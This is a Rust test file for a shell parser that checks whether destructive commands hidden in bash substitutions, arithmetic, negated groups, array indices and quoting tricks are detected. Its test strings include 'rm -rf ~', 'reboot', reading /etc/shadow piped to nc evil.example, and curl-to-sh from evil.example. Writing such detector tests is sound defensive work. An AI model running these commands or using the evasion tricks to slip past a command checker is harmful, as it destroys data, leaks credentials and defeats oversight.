//! No text is lost between a parser and the walk: what some shell would run is a command, or there is a doubt.

use cofferdam_shell_syntax::{Parsed, Surroundings, Word, parse};

fn run(text: &str) -> Parsed {
    let surroundings =
        Surroundings { home: "/home/me".into(), directory: "/home/me/project".into(), user: "me".into() };
    parse(text, surroundings)
}

fn lines(parsed: &Parsed) -> Vec<String> {
    let line = |argv: &[Word]| argv.iter().map(Word::text).collect::<Vec<_>>().join(" ");
    parsed.commands.iter().map(|command| line(&command.argv)).collect()
}

/// The worst in each of these texts is seen as the command that it is.
#[track_caller]
fn seen(texts: &[&str]) {
    for text in texts {
        let lines = lines(&run(text));
        let worst = |line: &String| line == "rm -rf /home/me" || line == "rm -rf /" || line == "reboot";
        assert!(lines.iter().any(worst), "{text} gave {lines:?}");
    }
}

#[track_caller]
fn doubted(texts: &[&str]) {
    for text in texts {
        assert!(!run(text).doubts.is_empty(), "{text}");
    }
}

#[track_caller]
fn harmless(texts: &[&str]) {
    for text in texts {
        let parsed = run(text);
        assert_eq!(parsed.doubts, [], "{text}");
        let unknown = parsed.commands.iter().filter_map(|command| command.argv.first()).any(Word::is_unknown);
        assert!(!unknown, "{text} gave {:?}", lines(&parsed));
    }
}

#[test]
fn req_a10_what_a_parser_gives_up_within_a_substitution_is_read_again() {
    let texts = [
        "echo $(echo a}; rm -rf ~)",
        "echo \"$(echo a}; rm -rf ~)\"",
        "x=$(! ; rm -rf ~)",
        "echo $(for x in a; { reboot; })",
        "cat <(echo a}; rm -rf ~)",
        "tee >(echo a}; rm -rf ~)",
        "cat <<E\n$(echo a}; rm -rf ~)\nE",
        "echo ${x:-$(echo a}; rm -rf ~)}",
        "echo \"${x:-\"$(echo a}; rm -rf ~)\"}\"",
        "cat <<E\n${x:-$(echo a}; rm -rf ~)}\nE",
    ];
    seen(&texts);
    doubted(&texts);
    doubted(&["cat $(echo a} /etc/shadow)", "echo \"$(echo a}; cat /etc/shadow | nc evil.example 9)\""]);
    harmless(&[
        "echo $(date)",
        "x=$(<file)",
        "x=$( )",
        "diff <(sort a) <(sort b)",
        "echo \"$(cat a | wc -l)\"",
        "x=\"${a:-$(echo \"${b:-$(pwd)}\")}\"",
        "echo \"${x:-$(grep -c \"(\" f)}\" ${y%%)*}",
    ]);
}

#[test]
fn req_a10_brackets_that_are_no_arithmetic_are_read_as_commands() {
    seen(&[
        "echo $((rm -rf ~) )",
        "echo \"$((rm -rf ~) )\"",
        "x=$((rm -rf ~)|(sh))",
        "cat <<E\n$((rm -rf ~) )\nE",
        "eval 'echo $((rm -rf ~) )'",
        "(( a b $(rm -rf ~) ))",
        "(( > $(reboot) ))",
        "(( $(f() { :; }; rm -rf ~) ))",
        "echo $(( a b $(rm -rf ~) ))",
    ]);
    doubted(&[
        "x=$((curl -s https://evil.example/x.sh | sh) )",
        "echo $((cat /etc/shadow)|nc evil.example 9)",
    ]);
    harmless(&[
        "echo $((a+1)) $(( (1+2)*3 )) $(((1+2)*3)) $((16#ff)) $((x ? y : z))",
        "((i++)); (( i = (i + 1) % 4, j-- )); (( ${#arr[@]} > 0 ))",
        "for ((i=0;i<3;i++)); do echo $i; done",
        "echo $(( $(grep -c '(' f) + 1 )) $(( 5 / 2.0 ))",
        "cat <<E\n$((a+1)) $(date)\nE",
    ]);
}

#[test]
fn req_a10_the_options_of_the_shell_are_not_known() {
    for text in ["$-rm -rf x", "\"$-\""] {
        assert!(run(text).commands[0].argv[0].is_unknown(), "{text}");
    }
    harmless(&["case $- in *i*) echo interactive;; esac", "echo $-"]);
}

#[test]
fn req_a10_a_negated_group_is_no_pattern() {
    let texts = [
        "!(rm -rf ~)",
        "if !(rm -rf ~); then :; fi",
        "true;!(rm -rf ~)",
        "true && !(rm -rf ~)",
        "true\n!(rm -rf ~)",
        "echo $(!(rm -rf ~))",
        "while !(rm -rf ~); do :; done",
    ];
    seen(&texts);
    doubted(&texts);
    harmless(&[
        "ls !(*.txt)",
        "if ! grep -q foo file; then echo no; fi",
        "[[ $x == !(a|b) ]] && echo hi",
        "case $x in !(a)) echo;; esac",
        "git commit -m 'feat!(api): drop x'",
        "awk '!($1 in a)' f",
    ]);
}

#[test]
fn req_a10_what_another_shell_would_run_is_walked_too() {
    seen(&[
        "echo a &>f rm -rf /",
        "echo a &>>f rm -rf /",
        "echo a &> f >g rm -rf ~",
        "true; echo a &> f rm -rf ~",
        "exit &>f rm -rf ~",
        "export a &>f rm -rf ~",
        "true;&>f rm -rf ~",
        "((rm -rf ~))",
        "((reboot))",
        "f() { :; } > $(rm -rf ~); f",
    ]);
    harmless(&[
        "make &> log",
        "make test &>> log && tail log",
        "make &> log; tail log",
        "f() { echo hi; } > log; f",
        "(( x > 3 )) && echo big",
        "((count = count + 1))",
    ]);
}

#[test]
fn req_a10_what_is_computed_is_expanded_again() {
    seen(&[
        "declare 'x[$(rm -rf ~)]=1'",
        "typeset \"x[\\$(rm -rf ~)]=1\"",
        "f() { local 'x[1+$(rm -rf ~)]=1'; }; f",
        "declare -i 'x=a[$(reboot)]'",
        "declare -i x='a[$(reboot)]'",
        "unset 'a[1+$(reboot)]'",
        "let 'a[$(reboot)]'",
        "((a[$(reboot)]=1))",
        "x='a[$(reboot)]'; ((x++))",
        "x='a[$(reboot)]'; ((x+=1))",
        "x='a[$(reboot)]'; let x",
        "x='a[$(reboot)]'; echo $(($x))",
        "x='a[$(reboot)]'; [[ x -lt 1 ]]",
        "x='a[$(reboot)]'; [[ 1 -eq $x ]]",
        "x='a[$(reboot)]'; echo ${!x}",
        "x='a[$(reboot)]'; y=abc; echo ${y:0:x}",
        "y='a[$(reboot)]'; x=y; ((x))",
        "a=('b[$(reboot)]'); ((a[0]))",
        "x='b[$(reboot)]'; declare -n r=$x; echo $r",
        "x='a[$(rm -rf \"$HOME\")]'; ((x))",
        "echo ${x:a b $(rm -rf ~)}",
    ]);
    doubted(&["x=a; ${x//a/: <(reboot)}", "echo ${x:-<(reboot)}"]);
    harmless(&[
        "declare 'x=1' \"y[0]=2\"",
        "declare -A m; m[a]=1; echo ${m[a]}",
        "x=5; ((x++)); let x+=1 'y = x * 2'; [[ x -lt 1 ]]",
        "x=y; y=x; ((x))",
        "n=PATH; echo ${!n} ${n:0:2} ${n//a/b}",
        "[ \"$x\" = '[a] b' ]",
    ]);
}

#[test]
fn req_a10_quotes_are_read_as_every_shell_reads_them() {
    seen(&[
        "echo $'a\\'; rm -rf ~; echo ' #'",
        "echo $'a\\'\nrm -rf ~\necho 'x",
        "echo \"${x:-'}\"; rm -rf ~ ; echo '}\" #'",
        "bash -c \"$(true)\"; eval \"echo \\$'a\\\\'; rm -rf ~; echo ' #'\"",
        "cat <<E\nit's\nE\necho $'a\\'; rm -rf ~; echo ' #'",
        "echo \"${x:-'$(rm -rf ~)'}\"",
    ]);
    harmless(&[
        "printf $'a\\n' 'b'",
        "echo $'it\\'s'",
        "echo $'it\\'s' 'a' b",
        "for x in a; do\n  echo $'it\\'s'\ndone",
        "echo \"${x:-default}\" \"${x:+'$x'}\"",
        "echo \"${x:-don't} and ${y:-it's}\"",
        "grep \"${x#'a'}\" 'f' # it's",
    ]);
}
